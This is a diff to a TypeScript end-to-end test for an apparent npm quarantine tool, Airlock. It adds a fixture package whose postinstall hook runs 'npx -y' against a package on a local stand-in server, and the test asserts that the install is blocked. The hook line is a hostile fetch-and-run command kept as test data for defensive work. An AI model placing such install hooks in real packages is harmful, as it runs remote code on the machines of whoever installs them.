@@ -14,7 +14,7 @@ import assert from 'node:assert/strict';
 import { existsSync } from 'node:fs';
 import { join } from 'node:path';
 import type { FixturePackage } from '../../support/npm-registry/index.ts';
-import { daysAgo, quarantineIdIn, signalsE2e } from './support.ts';
+import { daysAgo, outsideServer, quarantineIdIn, signalsE2e } from './support.ts';
 
 /** Install code that marks that it ran, and names a second stage it would pipe to a shell (never run). */
 const PAYLOAD = [
@@ -108,4 +108,17 @@ test('install hooks are followed as npm and Node run them: hidden payloads of po
   assert.equal(shown.status, 200, JSON.stringify(shown.body));
   const artifact = shown.body.items.find((d) => d.phase === 'artifact');
   assert.deepEqual([artifact?.verdict, artifact?.facts.install_behaviour.complete], ['allow', true], JSON.stringify(shown.body));
+});
+
+test('an install hook that has npx run a package from another server is quarantined; npx never reaches it', async (t) => {
+  const side = await outsideServer(t, 'stage-two');
+  // By name, not by a raw IP address (which a rule of its own would catch).
+  const url = side.url.replace('127.0.0.1', 'localhost');
+  const s = await signalsE2e({ packages: [pkg('nx', { postinstall: `npx -y ${url}` }, [])] });
+  t.after(() => s.close());
+  const p = await s.project();
+  const held = await p.npm(['install', 'nx']);
+  assert.notEqual(held.code, 0, held.output);
+  assert.match(held.output, /nx@9\.0\.0 is quarantined by Airlock: .*runs a package from outside the registry.*\[install_behaviour\.dangerous\]/);
+  assert.deepEqual(side.asked, []);
 });
